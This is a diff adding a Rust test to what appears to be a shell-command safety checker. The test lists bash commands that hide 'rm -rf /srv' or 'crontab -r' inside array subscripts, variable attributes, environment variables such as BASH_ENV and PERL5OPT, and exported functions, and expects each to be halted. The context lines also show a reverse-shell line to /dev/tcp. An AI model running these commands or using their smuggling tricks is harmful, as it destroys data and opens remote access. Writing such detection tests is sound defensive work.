@@ -53,6 +53,45 @@ fn what_is_hidden_is_found() {
 }
 
 #[test]
+fn what_a_shell_evaluates_again_is_found() {
+    for command in [
+        "x='a[$(rm -rf /srv)0]'; echo $((x))",
+        "x='a[`rm -rf /srv`]'; y=x; (( y++ ))",
+        "i='a[$(crontab -r)0]'; [[ $i -eq 0 ]]",
+        "i='a[$(crontab -r)0]'; [[ i -lt 3 ]]",
+        "[[ -v 'a[$(rm -rf /srv)]' ]]",
+        "test -v 'a[$(rm -rf /srv)]'",
+        "read 'a[$(rm -rf /srv)]' <<< x",
+        "unset 'a[$(rm -rf /srv)]'",
+        "printf -v 'a[$(rm -rf /srv)]' x",
+        "x='a[$(rm -rf /srv)0]'; let y=x",
+        "x='a[$(rm -rf /srv)0]'; declare -i y=x",
+        "x='a[$(rm -rf /srv)0]'; echo ${b[x]}",
+        "x='a[$(rm -rf /srv)0]'; b[x]=1",
+        "x='a[$(rm -rf /srv)0]'; echo ${y:x}",
+        "p='$(rm -rf /srv)'; : \"${p@P}\"",
+        "x=RM; ${x@L} -rf /srv",
+        "declare -n r=c; c=(rm -rf /srv); \"${r[@]}\"",
+        "declare -n r=c; r='rm -rf /srv'; $c",
+        "declare -l c=RM; $c -rf /srv",
+        "BASH_ENV='$(rm -rf /srv)' bash -c :",
+        "env 'BASH_FUNC_ls%%=() { rm -rf /srv; }' bash -c ls",
+        "PERL5OPT='-Mx;system(\"rm -rf /srv\")' perl x.pl",
+        "VIMINIT=':!rm -rf /srv' vim x",
+        "sh -c '((rm -rf /srv))'",
+        "sh -s -- /srv <<< 'rm -rf \"$1\"'",
+        "coproc bash; echo 'rm -rf /srv' >&\"${COPROC[1]}\"",
+        "rm() { command rm \"$@\"; }; rm -rf /srv",
+        "ls() { :; }; env rm -rf /srv",
+    ] {
+        check(command, Verdict::Halt);
+    }
+    for command in ["x=3; echo $((x + 1))", "[[ $x -eq 0 ]]", "printf 'a[%s]' '$(rm -rf /srv)'", "test -n 'a[$(rm)]'"] {
+        check(command, Verdict::Allow);
+    }
+}
+
+#[test]
 fn a_shell_is_not_handed_out() {
     for command in [
         "bash -i >& /dev/tcp/203.0.113.9/4242 0>&1",
